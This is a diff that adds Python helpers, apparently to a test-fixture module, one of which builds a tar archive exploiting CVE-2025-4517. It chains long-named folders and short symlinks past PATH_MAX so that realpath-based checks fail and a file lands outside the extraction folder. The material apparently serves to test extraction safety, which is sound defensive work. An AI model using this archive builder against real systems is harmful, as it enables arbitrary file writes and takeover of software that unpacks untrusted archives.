@@ -47,3 +47,28 @@ def written_by_tarfile(files: dict[str, bytes], kind: int, *, prefix: str = "") 
             info.size, info.mtime = len(content), 1.5
             tar.addfile(info, io.BytesIO(content))
     return stream.getvalue()
+
+
+def escape_by_links(name: str, content: bytes) -> bytes:
+    """CVE-2025-4517: a file beside the folder that it is unpacked in, for who trusts `os.path.realpath`.
+
+    Each step is a folder with a long name and a link to it with a short one. The path that the short links
+    lead to is longer than PATH_MAX, where realpath stops, and the kernel does not.
+    """
+    long, steps, at, parts = "d" * 247, "abcdefghijklmnop", "", []
+    for step in steps:
+        parts += [_named(f"{at}{long}", tarfile.DIRTYPE), _named(f"{at}{step}", tarfile.SYMTYPE, long)]
+        at += f"{long}/"
+    way = f"{'/'.join(steps)}/{'l' * 254}"
+    parts += [
+        _named(way, tarfile.SYMTYPE, "../" * len(steps)),
+        _named("escape", tarfile.SYMTYPE, f"{way}/.."),
+        file(f"escape/{name}", content),
+    ]
+    return b"".join([*parts, END])
+
+
+def _named(name: str, kind: bytes, link: str = "") -> bytes:
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname = kind, link
+    return info.tobuf(tarfile.PAX_FORMAT)
